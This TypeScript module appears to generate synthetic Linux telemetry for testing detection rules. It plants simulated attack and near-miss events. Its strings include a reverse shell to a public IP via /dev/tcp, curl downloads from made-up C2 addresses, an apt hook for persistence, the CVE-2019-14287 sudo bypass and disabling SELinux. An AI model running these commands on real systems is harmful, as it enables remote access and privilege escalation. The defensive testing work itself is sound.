import type { Rng } from './prng';
import { ROOT, eventId, type HostSim, type Proc } from './host-sim';
import { sshLogin, type HostBase } from './baseline';
import type { AttackKind, Label, NearMissKind } from './types';

/** The corpus rules the planted behaviours target (ids from elastic/detection-rules). */
export const TARGET_RULES = {
  aptExecution: {
    id: 'ad959eeb-2b7b-4722-ba08-a45f6622f005',
    name: 'Suspicious APT Package Manager Execution',
  },
  aptFileCreation: {
    id: '7c2e1297-7664-42bc-af11-6d5d35220b6b',
    name: 'APT Package Manager Configuration File Creation',
  },
  aptNetcon: {
    id: 'eaef8a35-12e0-4ac0-bc14-81c72b6bd27c',
    name: 'Suspicious APT Package Manager Network Connection',
  },
  dpkgUnusualParent: {
    id: 'f4d1c0ac-aedb-4063-9fa6-cc651eb5e6ee',
    name: 'DPKG Package Installed by Unusual Parent Process',
  },
  nping: { id: '0d69150b-96f8-467c-a86d-a67a3378ce77', name: 'Nping Process Activity' },
  selinux: { id: 'eb9eb8ba-a983-41d9-9c93-a1c05112ca5e', name: 'Potential Disabling of SELinux' },
  sudoCve: {
    id: '8af5b42f-8d74-48c8-a8d0-6d14b4197288',
    name: 'Sudo Privilege Escalation via CVE-2019-14287',
  },
  pidFile: { id: '3688577a-d196-11ec-90b0-f661ea17fbce', name: 'Process Started from Process ID (PID) File' },
} as const;

/** Public addresses (documentation ranges are excluded by the rules, so these are real-looking). */
const C2_ADDRESSES = ['45.77.120.33', '185.220.101.47', '103.75.190.12', '2a03:b0c0:3:d0::1a2b'];

/** Parents for the dpkg attack: new_terms alerts once per parent, so each plant uses a fresh one. */
const DROPPER_PATHS = [
  '/tmp/.X11-unix/.upd',
  '/dev/shm/.k/agent',
  '/var/tmp/.svc/kworkerd',
  '/tmp/.ICE-unix/sync',
];

interface PlantContext {
  sim: HostSim;
  rng: Rng;
  base: HostBase;
  atMs: number;
  attackId: string;
  /** How many plants of this kind came before (to vary parents per plant). */
  ordinal: number;
}

type Planter = (ctx: PlantContext) => Omit<Label, 'attack_id' | 'host_id' | 'scenario'>;

function rootShell(ctx: PlantContext): Proc {
  const login = sshLogin(ctx.sim, ctx.rng, ctx.base, ctx.atMs, ctx.base.admin);
  const sudo = ctx.sim.exec(ctx.atMs + 1_000, login, { executable: '/usr/bin/sudo', args: ['sudo', '-i'] });
  return ctx.sim.exec(ctx.atMs + 1_200, sudo, {
    executable: '/usr/bin/bash',
    args: ['-bash'],
    user: ROOT,
    cwd: '/root',
  });
}

/** apt running a hook shell, as `APT::Update::Pre-Invoke` does. */
function aptWithHook(
  ctx: PlantContext,
  parentName: 'apt' | 'apt-get',
  hook: string,
): { apt: Proc; sh: Proc; shEvent: string } {
  const bash = rootShell(ctx);
  const apt = ctx.sim.exec(ctx.atMs + 3_000, bash, {
    executable: `/usr/bin/${parentName}`,
    args: [parentName, 'update'],
  });
  const sh = ctx.sim.exec(ctx.atMs + 3_050, apt, {
    executable: '/usr/bin/dash',
    args: ['sh', '-c', '--', hook],
  });
  return { apt, sh, shEvent: ctx.sim.lastEventId() };
}

const aptHookShell: Planter = (ctx) => {
  const { sh, shEvent } = aptWithHook(ctx, 'apt', 'bash -c "bash -i >& /dev/tcp/45.77.120.33/443 0>&1" &');
  ctx.sim.exec(ctx.atMs + 3_060, sh, {
    executable: '/usr/bin/bash',
    args: ['bash', '-c', 'bash -i >& /dev/tcp/45.77.120.33/443 0>&1'],
  });
  return {
    kind: 'attack',
    rule_id: TARGET_RULES.aptExecution.id,
    rule_name: TARGET_RULES.aptExecution.name,
    event_ids: [shEvent, ctx.sim.lastEventId()],
  };
};

const aptHookNetcon: Planter = (ctx) => {
  const c2 = C2_ADDRESSES[ctx.ordinal % C2_ADDRESSES.length];
  const url = c2.includes(':') ? `http://[${c2}]/s` : `http://${c2}/s`;
  const { sh, shEvent } = aptWithHook(ctx, 'apt', `curl -fsSL ${url} -o /var/tmp/.s`);
  const curl = ctx.sim.exec(ctx.atMs + 3_070, sh, {
    executable: '/usr/bin/curl',
    args: ['curl', '-fsSL', url, '-o', '/var/tmp/.s'],
  });
  const conn = ctx.sim.connect(ctx.atMs + 3_200, curl, c2, 80);
  ctx.sim.end(ctx.atMs + 3_600, curl);
  return {
    kind: 'attack',
    rule_id: TARGET_RULES.aptNetcon.id,
    rule_name: TARGET_RULES.aptNetcon.name,
    event_ids: [shEvent, eventId(conn)],
  };
};

/**
 * A new file in /etc/apt/apt.conf.d/: even plants are written by an interactive `tee`,
 * odd ones by an apt hook shell redirecting into the directory (apt re-arming its own hook).
 */
const aptConfFile: Planter = (ctx) => {
  const name = ['99local-hook', '00cache-sync', '42apt-metrics'][ctx.ordinal % 3];
  const target = `/etc/apt/apt.conf.d/${name}`;
  let writer: Proc;
  if (ctx.ordinal % 2 === 0) {
    const shell = rootShell(ctx);
    writer = ctx.sim.exec(ctx.atMs + 2_000, shell, { executable: '/usr/bin/tee', args: ['tee', target] });
  } else {
    writer = aptWithHook(ctx, 'apt', `echo 'APT::Update::Pre-Invoke {"/var/tmp/.s &"};' > ${target}`).sh;
  }
  const file = ctx.sim.writeFile(ctx.atMs + 3_500, writer, target);
  ctx.sim.end(ctx.atMs + 3_520, writer);
  return {
    kind: 'attack',
    rule_id: TARGET_RULES.aptFileCreation.id,
    rule_name: TARGET_RULES.aptFileCreation.name,
    event_ids: [eventId(file)],
  };
};

const dpkgUnusualParent: Planter = (ctx) => {
  const shell = rootShell(ctx);
  const base = DROPPER_PATHS[ctx.ordinal % DROPPER_PATHS.length];
  const dropperPath = ctx.ordinal < DROPPER_PATHS.length ? base : `${base}${ctx.ordinal}`;
  const dropper = ctx.sim.exec(ctx.atMs + 2_000, shell, { executable: dropperPath, args: [dropperPath] });
  ctx.sim.exec(ctx.atMs + 2_300, dropper, {
    executable: '/usr/bin/dpkg',
    args: ['dpkg', '-i', '/tmp/.cache/libsystemd-helper_1.0_amd64.deb'],
  });
  return {
    kind: 'attack',
    rule_id: TARGET_RULES.dpkgUnusualParent.id,
    rule_name: TARGET_RULES.dpkgUnusualParent.name,
    event_ids: [ctx.sim.lastEventId()],
  };
};

const npingScan: Planter = (ctx) => {
  const shell = rootShell(ctx);
  const nping = ctx.sim.exec(ctx.atMs + 2_000, shell, {
    executable: '/usr/bin/nping',
    args: ['nping', '--tcp', '-p', '1-40', '10.20.0.0/24'],
  });
  // The exec is what the corpus rule matches; the probes are listed too, for port-sweep rules.
  const ids = [ctx.sim.lastEventId()];
  for (let port = 1; port <= 40; port++) {
    ids.push(eventId(ctx.sim.connect(ctx.atMs + 2_000 + port * 10, nping, '10.20.0.5', port)));
  }
  ctx.sim.end(ctx.atMs + 2_500, nping);
  return {
    kind: 'attack',
    rule_id: TARGET_RULES.nping.id,
    rule_name: TARGET_RULES.nping.name,
    event_ids: ids,
  };
};

const selinuxDisable: Planter = (ctx) => {
  const shell = rootShell(ctx);
  ctx.sim.exec(ctx.atMs + 2_000, shell, { executable: '/usr/sbin/setenforce', args: ['setenforce', '0'] });
  return {
    kind: 'attack',
    rule_id: TARGET_RULES.selinux.id,
    rule_name: TARGET_RULES.selinux.name,
    event_ids: [ctx.sim.lastEventId()],
  };
};

const sudoUidBypass: Planter = (ctx) => {
  const login = sshLogin(ctx.sim, ctx.rng, ctx.base, ctx.atMs, ctx.base.admin);
  ctx.sim.exec(ctx.atMs + 2_000, login, {
    executable: '/usr/bin/sudo',
    args: ['sudo', '-u#-1', '/bin/bash'],
  });
  return {
    kind: 'attack',
    rule_id: TARGET_RULES.sudoCve.id,
    rule_name: TARGET_RULES.sudoCve.name,
    event_ids: [ctx.sim.lastEventId()],
  };
};

const pidFileExec: Planter = (ctx) => {
  const shell = rootShell(ctx);
  ctx.sim.exec(ctx.atMs + 2_000, shell, {
    executable: '/var/run/crond.pid',
    args: ['/var/run/crond.pid'],
    user: ROOT,
  });
  return {
    kind: 'attack',
    rule_id: TARGET_RULES.pidFile.id,
    rule_name: TARGET_RULES.pidFile.name,
    event_ids: [ctx.sim.lastEventId()],
  };
};

/** The hook's child starts 6 s after the hook shell: outside the rule's 5 s maxspan. */
const nmAptHookSlow: Planter = (ctx) => {
  const { sh, shEvent } = aptWithHook(ctx, 'apt', 'sleep 6; /usr/local/bin/refresh-mirrors');
  ctx.sim.exec(ctx.atMs + 9_100, sh, {
    executable: '/usr/bin/bash',
    args: ['bash', '/usr/local/bin/refresh-mirrors'],
  });
  return {
    kind: 'near_miss',
    rule_id: TARGET_RULES.aptExecution.id,
    rule_name: TARGET_RULES.aptExecution.name,
    event_ids: [shEvent, ctx.sim.lastEventId()],
  };
};

/** A hook that fetches from internal and loopback/link-local mirrors only. */
const nmAptHookPrivateFetch: Planter = (ctx) => {
  const { sh, shEvent } = aptWithHook(ctx, 'apt', 'curl -fsS http://10.20.0.12/apt/ping');
  const curl = ctx.sim.exec(ctx.atMs + 3_070, sh, {
    executable: '/usr/bin/curl',
    args: ['curl', '-fsS', 'http://10.20.0.12/apt/ping'],
  });
  const ids = [shEvent];
  for (const ip of [
    '10.20.0.12',
    '192.168.1.10',
    '172.31.4.4',
    '127.0.0.1',
    '::1',
    'fe80::1',
    '169.254.169.254',
  ]) {
    ids.push(eventId(ctx.sim.connect(ctx.atMs + 3_100, curl, ip, 80)));
  }
  ctx.sim.end(ctx.atMs + 3_300, curl);
  return {
    kind: 'near_miss',
    rule_id: TARGET_RULES.aptNetcon.id,
    rule_name: TARGET_RULES.aptNetcon.name,
    event_ids: ids,
  };
};

/** apt-get (not apt) runs the hook: the rules only name apt. */
const nmAptGetHook: Planter = (ctx) => {
  const { sh, shEvent } = aptWithHook(ctx, 'apt-get', '/usr/local/sbin/mirror-check');
  ctx.sim.exec(ctx.atMs + 3_070, sh, {
    executable: '/usr/bin/bash',
    args: ['bash', '/usr/local/sbin/mirror-check'],
  });
  return {
    kind: 'near_miss',
    rule_id: TARGET_RULES.aptExecution.id,
    rule_name: TARGET_RULES.aptExecution.name,
    event_ids: [shEvent, ctx.sim.lastEventId()],
  };
};

/** Writes into apt.conf.d that the rule excludes: editor swap files and dpkg's own writes. */
const nmAptConfExcluded: Planter = (ctx) => {
  const shell = rootShell(ctx);
  const vim = ctx.sim.exec(ctx.atMs + 2_000, shell, {
    executable: '/usr/bin/vim.basic',
    args: ['vim', '/etc/apt/apt.conf.d/95proxies'],
  });
  const ids = [eventId(ctx.sim.writeFile(ctx.atMs + 2_100, vim, '/etc/apt/apt.conf.d/.95proxies.swp'))];
  ids.push(eventId(ctx.sim.writeFile(ctx.atMs + 6_000, vim, '/etc/apt/apt.conf.d/95proxies')));
  ctx.sim.end(ctx.atMs + 6_100, vim);
  return {
    kind: 'near_miss',
    rule_id: TARGET_RULES.aptFileCreation.id,
    rule_name: TARGET_RULES.aptFileCreation.name,
    event_ids: ids,
  };
};

/** dpkg from an odd parent, but only listing packages. */
const nmDpkgQuery: Planter = (ctx) => {
  const shell = rootShell(ctx);
  const inv = ctx.sim.exec(ctx.atMs + 2_000, shell, {
    executable: '/opt/inventory/bin/collector',
    args: ['/opt/inventory/bin/collector'],
  });
  ctx.sim.exec(ctx.atMs + 2_100, inv, { executable: '/usr/bin/dpkg', args: ['dpkg', '-l'] });
  return {
    kind: 'near_miss',
    rule_id: TARGET_RULES.dpkgUnusualParent.id,
    rule_name: TARGET_RULES.dpkgUnusualParent.name,
    event_ids: [ctx.sim.lastEventId()],
  };
};

const nmSetenforceEnable: Planter = (ctx) => {
  const shell = rootShell(ctx);
  ctx.sim.exec(ctx.atMs + 2_000, shell, { executable: '/usr/sbin/setenforce', args: ['setenforce', '1'] });
  return {
    kind: 'near_miss',
    rule_id: TARGET_RULES.selinux.id,
    rule_name: TARGET_RULES.selinux.name,
    event_ids: [ctx.sim.lastEventId()],
  };
};

export const PLANTERS: Record<AttackKind | NearMissKind, Planter> = {
  apt_hook_shell: aptHookShell,
  apt_hook_netcon: aptHookNetcon,
  apt_conf_file: aptConfFile,
  dpkg_unusual_parent: dpkgUnusualParent,
  nping_scan: npingScan,
  selinux_disable: selinuxDisable,
  sudo_uid_bypass: sudoUidBypass,
  pid_file_exec: pidFileExec,
  nm_apt_hook_slow: nmAptHookSlow,
  nm_apt_hook_private_fetch: nmAptHookPrivateFetch,
  nm_aptget_hook: nmAptGetHook,
  nm_apt_conf_excluded: nmAptConfExcluded,
  nm_dpkg_query: nmDpkgQuery,
  nm_setenforce_enable: nmSetenforceEnable,
};

export type { PlantContext };
